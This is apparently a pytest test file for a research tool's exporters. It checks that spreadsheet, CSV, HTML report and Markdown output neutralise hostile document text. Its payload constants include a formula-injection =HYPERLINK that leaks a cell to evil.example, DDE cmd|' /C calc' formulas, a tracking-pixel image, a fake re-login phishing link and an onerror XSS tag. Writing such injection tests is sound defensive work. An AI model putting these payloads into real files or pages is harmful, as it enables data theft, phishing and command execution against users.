"""Document and manifest text is hostile: formula payloads never become live spreadsheet formulas,
Markdown payloads never become links or images in the app, HTML never runs in the report.

The store holds a document whose municipality (from a manifest) and text carry the payloads a
probe used: ``=HYPERLINK(…)``, DDE ``=cmd|…``, ``+``/``-``/``@`` starts, a tracking-pixel image
and a fake «Logg inn på nytt her» link.
"""
from __future__ import annotations

import csv
import hashlib
import io
import zipfile
from datetime import datetime, timezone

import openpyxl
import pytest
from fixtures.store import build_store
from markdown_it import MarkdownIt

from qualcode.analysis import load
from qualcode.app.escape import md
from qualcode.export.cells import is_formula_like, safe_value
from qualcode.export.report_html import render_report
from qualcode.export.report_tables import csv_zip_bytes, write_csv_folder, write_xlsx
from qualcode.store import schema, transaction

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"klikk")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PIXEL = "![](http://evil.example/pixel.png)"
LOGIN = "[Logg inn på nytt her](http://evil.example/login)"
PLACE = '=HYPERLINK("http://evil.example","Fjordvik")'  # a municipality from a hostile manifest.csv


@pytest.fixture(scope="module")
def store(new_store) -> str:
    db = new_store()
    build_store(db)
    text = "\n\n".join([*PAYLOADS, f"Hovedmålet er tidlig innsats. {PIXEL} {LOGIN} <img src=x onerror=alert(1)>"])
    with transaction(db) as session:
        doc = schema.Document(content_hash=hashlib.sha256(text.encode()).hexdigest(), file_name="=ondsinnet.txt",
                              source_path="/data/x.txt", municipality=PLACE, year=2024, doc_type="plan",
                              size_class="liten", attributes={}, size_bytes=len(text), page_count=1, engine="test",
                              text=text)
        session.add(doc)
        session.flush()
        pos = 0
        for seq, part in enumerate(text.split("\n\n")):
            seg = schema.Segment(document_id=doc.id, seq=seq, kind="paragraph", start=pos, end=pos + len(part),
                                 page_start=1, page_end=1, text=part, codable=True)
            pos += len(part) + 2
            session.add(seg)
            session.flush()
            at = datetime(2025, 3, 2, 9, seq, tzinfo=timezone.utc)
            session.add(schema.Coding(segment_id=seg.id, code="plan.mal", source="reviewer", applied=True,
                                      created_by="ola", created_at=at))
            session.add(schema.SegmentReview(segment_id=seg.id, reviewer="ola", created_at=at))
    return db


def test_the_cell_helper_follows_owasp():
    for payload in PAYLOADS + ["=1", "+1", "-1", "@x", " =1+1", "\uff1d1+1"]:
        assert is_formula_like(payload) and safe_value(payload).startswith("'"), payload
    for harmless in ["Hovedmålet", "1-2 ganger", "e-post: a@b.no", "", "§ 15-1"]:
        assert safe_value(harmless) == harmless
    assert safe_value(-3) == -3 and safe_value(2.5) == 2.5  # numbers stay numbers


def test_xlsx_holds_no_formula(store, tmp_path):
    path = write_xlsx(load(store), tmp_path / "r.xlsx")
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
    book = openpyxl.load_workbook(path)
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and is_formula_like(cell.value):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    seen.add(cell.value)
    # the payloads are still there, as text (researchers read what the document says)
    assert PLACE in seen


def test_csv_fields_are_neutralised(store, tmp_path):
    files = write_csv_folder(load(store), tmp_path / "csv")
    for archive_text in [f.read_bytes().decode("utf-8-sig") for f in files] + _zip_texts(csv_zip_bytes(load(store))):
        for row in csv.reader(io.StringIO(archive_text, newline="")):
            for field in row:
                assert _number(field) or not is_formula_like(field), field
    everything = "".join(f.read_text(encoding="utf-8-sig") for f in files)
    assert "'" + PLACE.replace('"', '""') in everything  # the manifest's municipality, neutralised but kept


def _number(field: str) -> bool:
    try:
        float(field)
    except ValueError:
        return False
    return True


def _zip_texts(payload: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(payload)) as archive:
        return [archive.read(n).decode("utf-8-sig") for n in archive.namelist()]


def test_html_report_escapes_everything(store):
    page = render_report(load(store))
    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    assert 'href="http://evil' not in page and 'src="http://evil' not in page


def test_markdown_helper_leaves_no_link_image_or_html():
    renderer = MarkdownIt("commonmark")
    for payload in [PIXEL, LOGIN, "<http://evil.example>", "<img src=x>", "**fet** _kursiv_ # Overskrift",
                    ":red[rød] $x^2$", "[a]: http://evil.example\n\n[a]"]:
        html = renderer.render(f"> «{md(payload)}»")
        assert "<img" not in html and "<a " not in html and "<strong>" not in html and "<em>" not in html, html
        assert "http://" not in md(payload) and "www." not in md(payload)  # a bare URL cannot autolink either


def test_analyse_page_shows_quotes_as_text(store, monkeypatch):
    from pathlib import Path

    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("QUALCODE_DB", store)
    at = AppTest.from_file(str(Path(__file__).resolve().parents[1] / "app.py"), default_timeout=120)
    at.session_state["reviewer"] = "Kari"
    at.switch_page("qualcode/app/pages/analyse.py").run()
    at.get("button_group")[0].set_value("Sitater").run()  # the «Sitater» view
    at.selectbox(key="an_quote_code").set_value("plan.mal").run()
    at.number_input(key="an_quote_n").set_value(20).run()
    assert not at.exception, at.exception
    bodies = [m.value for m in at.markdown]
    quoted = [b for b in bodies if b.startswith("> «")]
    assert any("pixel" in b for b in quoted), quoted  # the hostile quote is on the page …
    renderer = MarkdownIt("commonmark")
    for body in quoted:  # … and renders as text: no image, no link
        html = renderer.render(body)
        assert "<img" not in html and "<a " not in html, body
